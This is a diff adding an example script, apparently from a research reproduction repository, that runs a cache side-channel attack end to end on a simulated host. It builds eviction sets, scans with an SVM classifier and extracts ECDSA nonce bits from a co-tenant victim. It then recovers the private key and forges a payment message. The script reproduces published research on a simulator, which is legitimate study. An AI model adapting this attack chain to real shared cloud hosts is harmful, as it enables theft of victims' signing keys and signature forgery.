@@ -1,0 +1,166 @@
+#!/usr/bin/env python3
+"""The full Section 7 attack: steal ECDSA nonce bits from a co-tenant.
+
+Steps (Table 1 of the paper):
+
+  0. co-location  — attacker and victim containers share a simulated host
+                    (prior work; assumed done);
+  1. eviction sets — L2-driven filtering + binary-search pruning for every
+                    SF set at the victim library's known page offset;
+  2. identification — PSD scanning with a polynomial-kernel SVM finds the
+                    set the ladder's secret-dependent fetches touch;
+  3. extraction   — monitor the set across signings and decode nonce bits.
+
+The endgame is then demonstrated: with a cleanly recovered nonce, the
+victim's ECDSA private key falls out of a single signature, and we forge
+a message with it.
+
+Run:  python examples/end_to_end_attack.py
+"""
+
+from __future__ import annotations
+
+import dataclasses
+
+from repro.analysis import format_seconds
+from repro.config import cloud_run_noise, skylake_sp_small
+from repro.core.context import AttackerContext
+from repro.core.evset import EvsetConfig, bulk_construct_page_offset
+from repro.core.extraction import (
+    HeuristicBoundaryClassifier,
+    extract_bits,
+)
+from repro.core.monitor import ParallelProbing, monitor_set
+from repro.core.pipeline import AttackConfig, run_end_to_end
+from repro.core.scanner import (
+    ScannerConfig,
+    TargetSetClassifier,
+    collect_labeled_traces,
+)
+from repro.crypto.ecdsa import recover_private_key, sign, verify
+from repro.memsys.machine import Machine
+from repro.victim import EcdsaVictim, VictimConfig
+
+
+def train_classifier(seed: int) -> TargetSetClassifier:
+    """Offline phase: train the PSD/SVM classifier on a controlled host."""
+    machine = Machine(skylake_sp_small(), noise=cloud_run_noise(), seed=seed)
+    victim = EcdsaVictim(machine, core=2, seed=seed)
+    ctx = AttackerContext(machine, seed=seed + 1)
+    ctx.calibrate()
+    bulk = bulk_construct_page_offset(
+        ctx, "bins", victim.layout.target_page_offset, EvsetConfig(budget_ms=100)
+    )
+    target_set = machine.hierarchy.shared_set_index(victim.layout.monitored_line)
+    victim.run_continuously(machine.now + 1000)
+    scfg = ScannerConfig()
+    traces, labels = collect_labeled_traces(ctx, bulk.evsets, target_set, scfg, 2)
+    clf = TargetSetClassifier(machine.clock_hz, scfg).fit(traces, labels)
+    print(f"offline: trained the SVM on {len(traces)} labelled PSD traces")
+    return clf
+
+
+def attack_production_host(classifier: TargetSetClassifier) -> None:
+    """The in-production attack under Cloud Run noise."""
+    machine = Machine(skylake_sp_small(), noise=cloud_run_noise(), seed=99)
+    victim = EcdsaVictim(machine, core=2, cfg=VictimConfig(), seed=42)
+    ctx = AttackerContext(machine, main_core=0, helper_core=1, seed=5)
+    ctx.calibrate()
+    victim.run_continuously(machine.now + 1000)
+
+    report = run_end_to_end(
+        ctx, victim, classifier, AttackConfig(n_traces=4, scan_timeout_s=1.0)
+    )
+    ghz = machine.cfg.clock_ghz
+    print("\n=== production attack (Cloud Run noise) ===")
+    print(f"step 1 (eviction sets): {report.n_evsets} sets in "
+          f"{format_seconds(report.evset_build_cycles / (ghz * 1e9))}")
+    print(f"step 2 (PSD scan):      target "
+          f"{'FOUND' if report.target_identified else 'not found'} after "
+          f"{report.sets_scanned} set-scans in "
+          f"{format_seconds(report.scan_cycles / (ghz * 1e9))}")
+    print(f"step 3 (extraction):    {len(report.scores)} signings in "
+          f"{format_seconds(report.collect_cycles / (ghz * 1e9))}")
+    for i, score in enumerate(report.scores):
+        print(f"   signing {i}: {score.n_recovered}/{score.n_true_bits} bits "
+              f"({score.recovered_fraction:.0%}), "
+              f"{score.n_errors} wrong (BER {score.bit_error_rate:.1%})")
+    print(f"median recovered: {report.median_recovered_fraction:.0%} "
+          f"(paper: 81%); total attack: "
+          f"{format_seconds(report.total_seconds(ghz))} simulated")
+
+
+def demonstrate_key_recovery() -> None:
+    """The endgame: one clean nonce -> private key -> forged signature.
+
+    Uses a quiet host whose reuse predictor never parks back-invalidated
+    lines in the LLC (reuse_predictor_p=0), so a single trace can be
+    decoded completely.
+    """
+    from repro.config import no_noise
+
+    cfg = dataclasses.replace(skylake_sp_small(), reuse_predictor_p=0.0)
+    machine = Machine(cfg, noise=no_noise(), seed=123)
+    victim = EcdsaVictim(machine, core=2, seed=9)
+    ctx = AttackerContext(machine, seed=3)
+    ctx.calibrate()
+    bulk = bulk_construct_page_offset(
+        ctx, "bins", victim.layout.target_page_offset, EvsetConfig(budget_ms=100)
+    )
+    target_set = machine.hierarchy.shared_set_index(victim.layout.monitored_line)
+    evset = next(e for e in bulk.evsets if ctx.true_set_of(e.target_va) == target_set)
+
+    print("\n=== endgame: key recovery from one clean trace ===")
+    ecfg = AttackConfig().extraction
+    decoder = HeuristicBoundaryClassifier(ecfg)
+    truth = bits = None
+    for attempt in range(6):
+        truth = victim.schedule_signing(machine.now + 30_000, real=True)
+        # No LLC scrub needed when back-invalidated lines never enter the
+        # LLC, and skipping it removes the scrub's tiny blind windows.
+        trace = monitor_set(
+            ParallelProbing(ctx, evset, llc_scrub_period=0),
+            duration_cycles=truth.end - machine.now + 60_000,
+        )
+        bits = extract_bits(trace, decoder.predict_boundaries(trace), ecfg)
+        print(f"signing {attempt}: decoded {len(bits)}/{truth.n_bits} "
+              "ladder iterations")
+        if len(bits) == truth.n_bits:
+            break
+    bits.sort(key=lambda b: b.start)
+    recovered_bits = [b.bit for b in bits]
+    if len(recovered_bits) == truth.n_bits and recovered_bits == truth.bits:
+        nonce = 1
+        for bit in recovered_bits:
+            nonce = (nonce << 1) | bit
+        assert nonce == truth.nonce
+        d = recover_private_key(victim.curve, truth.message, truth.signature, nonce)
+        print(f"nonce reconstructed exactly; recovered private key matches: "
+              f"{d == victim.keypair.d}")
+        from repro.crypto.ecdsa import EcdsaKeyPair
+
+        stolen = EcdsaKeyPair(victim.curve, d, victim.keypair.qx, victim.keypair.qy)
+        import random
+
+        forged, _ = sign(stolen, b"pay attacker 1000 coins", random.Random(1))
+        ok = verify(victim.curve, victim.keypair.public_point,
+                    b"pay attacker 1000 coins", forged)
+        print(f"forged signature verifies under the victim's public key: {ok}")
+    else:
+        from repro.core.extraction import score_extraction
+
+        score = score_extraction(truth, bits, ecfg)
+        print(f"trace not perfectly clean this run: "
+              f"{score.n_recovered}/{score.n_true_bits} aligned bits, "
+              f"{score.n_errors} wrong; with partial bits the lattice "
+              "attacks cited by the paper apply instead")
+
+
+def main() -> None:
+    classifier = train_classifier(seed=11)
+    attack_production_host(classifier)
+    demonstrate_key_recovery()
+
+
+if __name__ == "__main__":
+    main()
